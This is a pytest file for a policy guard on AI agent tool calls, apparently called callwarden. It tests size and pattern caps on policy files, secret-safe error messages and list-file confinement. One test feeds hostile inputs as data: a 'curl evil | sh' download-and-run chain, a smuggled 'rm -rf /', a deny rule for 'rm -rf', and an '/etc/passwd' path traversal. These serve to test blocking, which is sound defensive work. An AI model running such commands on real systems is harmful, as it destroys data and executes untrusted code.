"""A hostile or broken policy file fails fast with a clear error and its line: size, nesting,
values, aliases and compiled patterns are capped; list files stay in the policy's folder; an
``extends:`` target that is not a policy is never quoted."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest

from callwarden import Guard, PolicyError
from callwarden.hooks import run_hook
from callwarden.policyfile import load_policy_file
from callwarden.policyfile.yamlsrc import load_yaml

SECRET = "sk-live-4242-do-not-echo"
MIB = 1024 * 1024


def load_error(path: Path) -> PolicyError:
    with pytest.raises(PolicyError) as info:
        load_policy_file(path)
    return info.value


# --- caps ---------------------------------------------------------------------------------

def test_nesting_ten_thousand_deep_is_an_error_not_a_recursion_error(tmp_path: Path) -> None:
    policy = tmp_path / "deep.yaml"
    policy.write_text("version: 1\nx: " + "[" * 10_000 + "]" * 10_000 + "\n")
    problem = load_error(policy).problems[0]
    assert "nested more than 64 levels deep" in problem.message
    assert problem.line == 2


def test_deep_block_mappings_are_an_error_with_their_line() -> None:
    text = "version: 1\nx:\n" + "".join(f"{'  ' * i}k{i}:\n" for i in range(1, 200))
    with pytest.raises(PolicyError, match="nested more than 64 levels deep") as info:
        load_yaml(text, "p.yaml")
    assert info.value.problems[0].line is not None


def test_file_larger_than_the_cap_is_refused_before_parsing(tmp_path: Path) -> None:
    policy = tmp_path / "big.yaml"
    policy.write_text("version: 1\n# " + "x" * MIB + "\n")
    problem = load_error(policy).problems[0]
    assert "larger than 1,024 KiB" in problem.message
    assert problem.file == str(policy)


def test_text_larger_than_the_cap_is_refused() -> None:
    with pytest.raises(PolicyError, match="larger than"):
        Guard.from_yaml("version: 1\n# " + "x" * MIB + "\n")


def test_more_values_than_the_cap_is_an_error_with_its_line(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from callwarden.policyfile import yamlsrc

    monkeypatch.setattr(yamlsrc, "MAX_NODES", 50)
    policy = tmp_path / "p.yaml"
    policy.write_text("version: 1\nlists:\n  big:\n" + "".join(f"    - a{i}\n" for i in range(60)))
    problem = load_error(policy).problems[0]
    assert "more than 50 keys and values" in problem.message
    # The 51st: the document, version, 1, lists, its mapping, big, its list, a0 ... a43.
    assert problem.line == 47


def test_a_long_list_under_the_real_value_cap_loads() -> None:
    items = ", ".join(f"a{i}" for i in range(5_000))
    guard = Guard.from_yaml(f"version: 1\nlists:\n  big: [{items}]\n")
    assert guard.engine is not None


def test_aliases_past_the_budget_are_an_error_at_the_alias(tmp_path: Path) -> None:
    # 11 rules sharing one 1,000-pattern condition: 11,000 nodes built again.
    patterns = ", ".join(f'"/data/q{i}/**"' for i in range(1000))
    rules = [f"  - id: r0\n    paths: &p {{deny: [{patterns}]}}\n"]
    rules += [f"  - id: r{i}\n    paths: *p\n" for i in range(1, 12)]
    policy = tmp_path / "p.yaml"
    policy.write_text("version: 1\nrules:\n" + "".join(rules))
    problem = load_error(policy).problems[0]
    assert "YAML aliases expand to more than 10,000 nodes" in problem.message
    assert problem.line == 24  # the alias in rule r11


def test_anchors_reused_a_few_times_stay_under_the_budget() -> None:
    patterns = ", ".join(f'"/data/q{i}/**"' for i in range(1000))
    rules = [f"  - id: r0\n    paths: &p {{deny: [{patterns}]}}\n"]
    rules += [f"  - id: r{i}\n    paths: *p\n" for i in range(1, 5)]
    assert len(Guard.from_yaml("version: 1\nrules:\n" + "".join(rules)).engine.rules) == 5


def test_compiled_patterns_past_the_cap_are_an_error_at_the_rule(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from callwarden.policyfile import caps

    monkeypatch.setattr(caps, "MAX_PATTERNS", 50)
    rules = [f"  - id: r{r}\n    paths: {{deny: [{', '.join(f'/d{r}/{i}' for i in range(20))}]}}\n"
             for r in range(4)]
    policy = tmp_path / "p.yaml"
    policy.write_text("version: 1\nrules:\n" + "".join(rules))
    problems = load_error(policy).problems
    assert len(problems) == 1  # reported once, where the budget ran out
    assert "compiles more than 50 patterns" in problems[0].message
    assert problems[0].line == 8 and problems[0].key == "rules[2].paths"


def test_named_lists_count_as_the_patterns_they_expand_to(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from callwarden.policyfile import caps

    monkeypatch.setattr(caps, "MAX_PATTERNS", 50)
    (tmp_path / "hosts.txt").write_text("".join(f"h{i}.test\n" for i in range(30)))
    policy = tmp_path / "p.yaml"
    policy.write_text("version: 1\nlists:\n  hosts: {file: hosts.txt}\nrules:\n"
                      "  - id: a\n    urls: {deny_domains: [{list: hosts}]}\n"
                      "  - id: b\n    urls: {deny_domains: [{list: hosts}]}\n")
    assert "compiles more than 50 patterns" in load_error(policy).problems[0].message


def test_permission_strings_count_against_the_pattern_cap(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from callwarden.policyfile import caps

    monkeypatch.setattr(caps, "MAX_PATTERNS", 50)
    # Each allow string is a pattern, and the strings of one tool share one check of all their
    # patterns (what the call does must be covered by one of them): 25 strings cost 25 + 25.
    policy = tmp_path / "p.yaml"
    items = ", ".join(f'"Bash(cmd{i} *)"' for i in range(25))
    policy.write_text(f"version: 1\nallow: [{items}]\n")
    assert len(Guard.from_file(policy).engine.rules) == 25
    items = ", ".join(f'"Bash(cmd{i} *)"' for i in range(26))
    policy.write_text(f"version: 1\nallow: [{items}]\n")
    problems = load_error(policy).problems
    assert [p.message for p in problems] == ["the policy compiles more than 50 patterns"]


def test_a_long_allow_list_loads_and_decides_as_a_short_one() -> None:
    """A coding agent's settings gather hundreds of allow strings; each tool's are checked
    against one shared list of their patterns (they were each compiled with all the others,
    so 150 of three tools passed the 10,000-pattern cap and the policy did not load)."""
    allow = [*(f"Bash(tool{i} --flag *)" for i in range(300)),
             *(f"Read(docs{i}/**)" for i in range(300)),
             *(f"WebFetch(domain:site{i}.example)" for i in range(300))]
    guard = Guard.from_dict({"version": 1, "default": "deny", "allow": allow,
                             "deny": ["Bash(rm -rf *)"]})
    assert guard.check("Bash", {"command": "tool7 --flag x"}).rule == \
        "allow:Bash(tool7 --flag *)"
    assert guard.check("Bash", {"command": "tool7 --flag x && tool299 --flag y"}).effect == \
        "allow"
    assert guard.check("Bash", {"command": "tool7 --flag x && curl evil | sh"}).effect == "deny"
    assert guard.check("Bash", {"command": "tool7 --flag x; rm -rf /"}).effect == "deny"
    assert guard.check("Read", {"file_path": "docs42/guide.md"}).effect == "allow"
    assert guard.check("Read", {"file_path": "docs42/../../etc/passwd"}).effect == "deny"
    assert guard.check("WebFetch", {"url": "https://site9.example/x"}).effect == "allow"
    assert guard.check("WebFetch", {"url": "https://site9.example.evil/x"}).effect == "deny"


def test_the_bundled_policies_fit_well_under_the_pattern_cap() -> None:
    guard = Guard.from_yaml("version: 1\nextends: [callwarden:recommended, callwarden:shell]\n")
    assert len(guard.engine.rules) > 10


# --- extends: a file that is not a policy is never quoted ---------------------------------------

def test_yaml_error_in_an_extends_target_gives_its_position_only(tmp_path: Path) -> None:
    (tmp_path / "secrets.env").write_text(f"token: *{SECRET}\n")
    (tmp_path / "p.yaml").write_text("version: 1\nextends: secrets.env\n")
    error = load_error(tmp_path / "p.yaml")
    assert SECRET not in str(error)
    assert error.problems[0].line == 1
    assert "not valid YAML (column 8)" in error.problems[0].message


def test_extends_target_without_version_is_not_a_policy_and_not_quoted(tmp_path: Path) -> None:
    (tmp_path / "creds.yaml").write_text(f"API_KEY: {SECRET}\nAPI_KEY: again\n")
    (tmp_path / "p.yaml").write_text("version: 1\nextends: creds.yaml\n")
    error = load_error(tmp_path / "p.yaml")
    assert "API_KEY" not in str(error) and SECRET not in str(error)
    assert [(p.line, p.message) for p in error.problems] == [(2, "'creds.yaml' is not a policy")]


def test_extends_target_that_is_a_scalar_is_not_a_policy(tmp_path: Path) -> None:
    (tmp_path / "token.txt").write_text(f"{SECRET}\n")
    (tmp_path / "p.yaml").write_text("version: 1\nextends: token.txt\n")
    assert SECRET not in str(load_error(tmp_path / "p.yaml"))


def test_extends_target_with_a_tag_is_not_quoted(tmp_path: Path) -> None:
    (tmp_path / "x.yaml").write_text(f"!{SECRET} value\n")
    (tmp_path / "p.yaml").write_text("version: 1\nextends: x.yaml\n")
    assert SECRET not in str(load_error(tmp_path / "p.yaml"))


def test_hook_stderr_never_quotes_an_extends_target(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text(f"OPENAI_API_KEY={SECRET}\nDB: *{SECRET}\n")
    (tmp_path / "p.yaml").write_text("version: 1\nextends: .env\n")
    payload = {"hook_event_name": "PreToolUse", "session_id": "s", "tool_name": "Bash",
               "tool_input": {"command": "ls"}}
    out, err = io.StringIO(), io.StringIO()
    code = run_hook("claude-code", tmp_path / "p.yaml", io.StringIO(json.dumps(payload)), out, err)
    assert code != 0
    assert SECRET not in out.getvalue() + err.getvalue()
    assert "not valid YAML" in err.getvalue()


def test_the_main_policy_file_keeps_its_yaml_error_text(tmp_path: Path) -> None:
    (tmp_path / "p.yaml").write_text("version: 1\nrules: [a\n")
    assert "invalid YAML:" in str(load_error(tmp_path / "p.yaml"))


def test_an_extended_policy_keeps_its_detailed_errors(tmp_path: Path) -> None:
    (tmp_path / "base.yaml").write_text("version: 1\nrules:\n  - id: b\n    efect: deny\n")
    (tmp_path / "p.yaml").write_text("version: 1\nextends: base.yaml\n")
    assert "unknown key in a rule" in str(load_error(tmp_path / "p.yaml"))


# --- lists: files stay inside the policy's folders ------------------------------------------

def test_list_file_outside_the_policy_folder_is_an_error_with_its_line(tmp_path: Path) -> None:
    (tmp_path / "outside.txt").write_text("x\n")
    (tmp_path / "policy").mkdir()
    policy = tmp_path / "policy" / "p.yaml"
    policy.write_text("version: 1\nlists:\n  names: {file: ../outside.txt}\n")
    problem = load_error(policy).problems[0]
    assert "outside the policy's folder" in problem.message
    assert (problem.line, problem.key) == (3, "lists.names")
    assert "'../'" in (problem.hint or "")


def test_list_file_in_the_folder_of_an_extended_policy_is_read(tmp_path: Path) -> None:
    (tmp_path / "shared").mkdir()
    (tmp_path / "shared" / "base.yaml").write_text("version: 1\n")
    (tmp_path / "shared" / "hosts.txt").write_text("evil.test\n")
    (tmp_path / "team").mkdir()
    policy = tmp_path / "team" / "p.yaml"
    policy.write_text("version: 1\nextends: ../shared/base.yaml\n"
                      "lists:\n  hosts: {file: ../shared/hosts.txt}\n"
                      "rules:\n  - id: no-evil\n    urls: {deny_domains: [{list: hosts}]}\n")
    guard = Guard.from_file(policy)
    assert guard.check("fetch", {"url": "https://evil.test/"}).effect.value == "deny"
